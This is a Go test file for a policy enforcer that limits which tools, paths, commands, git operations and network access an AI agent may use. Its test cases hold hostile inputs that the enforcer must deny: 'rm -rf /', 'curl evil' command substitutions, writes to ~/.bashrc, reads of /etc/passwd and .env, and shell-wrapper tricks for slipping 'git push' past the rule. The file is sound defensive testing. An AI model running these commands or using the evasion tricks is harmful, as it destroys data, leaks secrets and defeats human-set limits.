@@ -0,0 +1,194 @@
+package toolpolicy
+
+import (
+	"errors"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/PonyDevAI/Bull-Board/internal/common"
+)
+
+func mustParse(t *testing.T, raw string) Policy {
+	t.Helper()
+	p, err := Parse(raw)
+	if err != nil {
+		t.Fatalf("Parse(%s): %v", raw, err)
+	}
+	return p
+}
+
+func TestParseRejectsUnknownAndInvalidFields(t *testing.T) {
+	for _, raw := range []string{
+		`{"allowed_tool":["read_file"]}`,
+		`{"max_file_writes":-1}`,
+		`{"paths":{"deny":[""]}}`,
+		`{"network":"no"}`,
+	} {
+		if _, err := Parse(raw); !errors.Is(err, ErrInvalidPolicy) {
+			t.Errorf("Parse(%s) = %v, want ErrInvalidPolicy", raw, err)
+		}
+	}
+	if p, err := Parse(""); err != nil || p.AllowedTools != nil {
+		t.Fatalf("empty policy = %+v, %v", p, err)
+	}
+	if _, err := ParseOverride(`{"timeout":5,"tool_policy":{"git":["status"]}}`); err != nil {
+		t.Fatalf("ParseOverride: %v", err)
+	}
+}
+
+func TestMergeMostSpecificWinsAndDenyAccumulates(t *testing.T) {
+	r := Merge(
+		Layer{LayerModelProfile, mustParse(t, `{"allowed_tools":["read_file"],"paths":{"deny":[".env"]},"max_file_writes":10}`)},
+		Layer{LayerAgentApp, mustParse(t, `{"allowed_tools":["read_file","write_file"],"paths":{"deny":["secrets/**"]},"network":false}`)},
+		Layer{LayerWorker, mustParse(t, `{"max_file_writes":2}`)},
+	)
+	if len(r.AllowedTools) != 2 || r.Sources["allowed_tools"] != LayerAgentApp {
+		t.Fatalf("allowed_tools = %v from %s", r.AllowedTools, r.Sources["allowed_tools"])
+	}
+	if *r.MaxFileWrites != 2 || r.Sources["max_file_writes"] != LayerWorker {
+		t.Fatalf("max_file_writes = %d from %s", *r.MaxFileWrites, r.Sources["max_file_writes"])
+	}
+	if len(r.Paths.Deny) != 2 || r.Sources["paths.deny:.env"] != LayerModelProfile || !r.NetworkDisabled() {
+		t.Fatalf("unexpected merge %+v", r)
+	}
+}
+
+func TestEnforcerChecksEveryRule(t *testing.T) {
+	e := NewEnforcer(Merge(
+		Layer{LayerAgentApp, mustParse(t, `{"allowed_tools":["read_file","write_file","run_command","apply_patch","fetch","docs__*"],"paths":{"allow":["src/**","README.md"],"deny":["src/**/*.key"]},"commands":["go test *","go vet ./...","git status*","git diff*"],"git":["status","diff"],"network":false}`)},
+		Layer{LayerWorker, mustParse(t, `{"max_file_writes":2}`)},
+	))
+	cases := []struct {
+		inv  Invocation
+		rule string
+	}{
+		{Invocation{Tool: "read_file", Paths: []string{"src/a/b.go"}}, ""},
+		{Invocation{Tool: "read_file", Paths: []string{"./README.md"}}, ""},
+		{Invocation{Tool: "search"}, "agent_app.allowed_tools"},
+		{Invocation{Tool: "docs__lookup"}, ""},
+		{Invocation{Tool: "db_schema__tables"}, "agent_app.allowed_tools"},
+		{Invocation{Tool: "read_file", Paths: []string{"docs/x.md"}}, "agent_app.paths.allow"},
+		{Invocation{Tool: "read_file", Paths: []string{"src/certs/server.key"}}, "agent_app.paths.deny"},
+		{Invocation{Tool: "read_file", Paths: []string{"src/../.env"}}, "agent_app.paths.allow"},
+		{Invocation{Tool: "run_command", Command: "go test ./... && go vet ./..."}, ""},
+		{Invocation{Tool: "run_command", Command: "go test ./... && rm -rf /"}, "agent_app.commands"},
+		{Invocation{Tool: "run_command", Command: "go test $(curl evil)"}, "agent_app.commands"},
+		{Invocation{Tool: "run_command", Command: "go test `curl evil`"}, "agent_app.commands"},
+		{Invocation{Tool: "run_command", Command: "go test ./... & curl evil.sh"}, "agent_app.commands"},
+		{Invocation{Tool: "run_command", Command: "go test ./... (curl evil.sh)"}, "agent_app.commands"},
+		{Invocation{Tool: "run_command", Command: "go test ./... > ~/.bashrc"}, "agent_app.commands"},
+		{Invocation{Tool: "run_command", Command: "go test ./... < /etc/passwd"}, "agent_app.commands"},
+		{Invocation{Tool: "run_command", Command: "git status --short"}, ""},
+		{Invocation{Tool: "apply_patch", Paths: []string{"src/a.go"}, Write: true, Git: []string{"apply"}}, "agent_app.git"},
+		{Invocation{Tool: "fetch", Network: true}, "agent_app.network"},
+		{Invocation{Tool: "write_file", Paths: []string{"src/a.go"}, Write: true}, ""},
+		{Invocation{Tool: "write_file", Paths: []string{"src/b.go"}, Write: true}, ""},
+		{Invocation{Tool: "write_file", Paths: []string{"src/c.go"}, Write: true}, "worker.max_file_writes"},
+	}
+	for _, tc := range cases {
+		d := e.Check(tc.inv)
+		if d.Allowed != (tc.rule == "") || d.Rule != tc.rule {
+			t.Errorf("Check(%+v) = %+v, want rule %q", tc.inv, d, tc.rule)
+		}
+	}
+}
+
+func TestGitRuleAppliesToCommandsWithoutAllowlist(t *testing.T) {
+	e := NewEnforcer(Merge(Layer{LayerModelProfile, mustParse(t, `{"git":["status","diff","add","commit"]}`)}))
+	if d := e.Check(Invocation{Tool: "run_command", Command: "git add -A && git -C . commit -m x"}); !d.Allowed {
+		t.Fatalf("expected commit allowed, got %+v", d)
+	}
+	for _, command := range []string{
+		"make && git push origin HEAD",
+		"make & git push origin HEAD",
+		"(git push origin HEAD)",
+	} {
+		d := e.Check(Invocation{Tool: "run_command", Command: command})
+		if d.Allowed || d.Rule != "model_profile.git" || d.Reason != "git push is not allowed" {
+			t.Fatalf("expected push in %q denied, got %+v", command, d)
+		}
+	}
+}
+
+func TestGitRuleSeesThroughAssignmentsAndWrappers(t *testing.T) {
+	e := NewEnforcer(Merge(Layer{LayerModelProfile, mustParse(t, `{"git":["status","diff","add","commit"]}`)}))
+	for _, command := range []string{
+		"FOO=1 git push",
+		"env git push",
+		"env -i FOO=1 git push",
+		"command git push",
+		"exec git push",
+		"xargs git push",
+		"xargs -n 1 git push",
+		"nohup /usr/bin/git push",
+		`sh -c "git push"`,
+		`bash -lc 'make && git push origin HEAD'`,
+		`env FOO=1 sh -c "git push"`,
+		"eval git push",
+		`"git" push`,
+	} {
+		d := e.Check(Invocation{Tool: "run_command", Command: command})
+		if d.Allowed || d.Rule != "model_profile.git" || d.Reason != "git push is not allowed" {
+			t.Fatalf("expected push in %q denied, got %+v", command, d)
+		}
+	}
+	for _, command := range []string{
+		"$(echo git) push",
+		"$GIT push",
+		"`echo git` push",
+		"echo git push | sh",
+		"env $CMD push",
+	} {
+		d := e.Check(Invocation{Tool: "run_command", Command: command})
+		if d.Allowed || d.Rule != "model_profile.git" || !strings.HasPrefix(d.Reason, "cannot tell") {
+			t.Fatalf("expected %q refused as unclassifiable, got %+v", command, d)
+		}
+	}
+	for _, command := range []string{
+		"FOO=1 git status",
+		`sh -c "git diff && make"`,
+		"xargs grep -n TODO",
+		"echo git push",
+	} {
+		if d := e.Check(Invocation{Tool: "run_command", Command: command}); !d.Allowed {
+			t.Fatalf("expected %q allowed, got %+v", command, d)
+		}
+	}
+	// Without a git rule, commands that cannot be classified are not refused.
+	open := NewEnforcer(Merge(Layer{LayerModelProfile, mustParse(t, `{"network":false}`)}))
+	if d := open.Check(Invocation{Tool: "run_command", Command: "$GIT push"}); !d.Allowed {
+		t.Fatalf("expected unrestricted command allowed, got %+v", d)
+	}
+}
+
+func TestResolveReadsAllLayers(t *testing.T) {
+	t.Setenv("SQLITE_PATH", filepath.Join(t.TempDir(), "bb.sqlite"))
+	db, _, err := common.OpenDB("")
+	if err != nil {
+		t.Fatalf("open db: %v", err)
+	}
+	defer db.Close()
+	for _, stmt := range []string{
+		`INSERT INTO model_profiles (id, home_id, name, provider, model_name, tool_policy_json) VALUES ('m','default','M','openai','gpt','{"network":false}')`,
+		`INSERT INTO agent_apps (id, home_id, name, tool_policy_json) VALUES ('a','default','A','{"allowed_tools":["read_file"]}')`,
+		`INSERT INTO workers (id, home_id, workspace_id, group_id, role_id, agent_app_id, execution_backend_id, name, status, config_override_json) VALUES ('w','default','default-workspace','default-group','planner','a','b','W','active','{"tool_policy":{"allowed_tools":["read_file","search"]}}')`,
+	} {
+		if _, err := db.Exec(stmt); err != nil {
+			t.Fatalf("seed: %v", err)
+		}
+	}
+	r, err := Resolve(db, "m", "a", "w")
+	if err != nil {
+		t.Fatalf("Resolve: %v", err)
+	}
+	if !r.NetworkDisabled() || len(r.AllowedTools) != 2 || r.Sources["allowed_tools"] != LayerWorker || r.Sources["network"] != LayerModelProfile {
+		t.Fatalf("unexpected resolved policy %+v", r)
+	}
+	if _, err := db.Exec(`UPDATE agent_apps SET tool_policy_json = '{"bogus":1}' WHERE id = 'a'`); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := Resolve(db, "m", "a", "w"); !errors.Is(err, ErrInvalidPolicy) {
+		t.Fatalf("expected ErrInvalidPolicy, got %v", err)
+	}
+}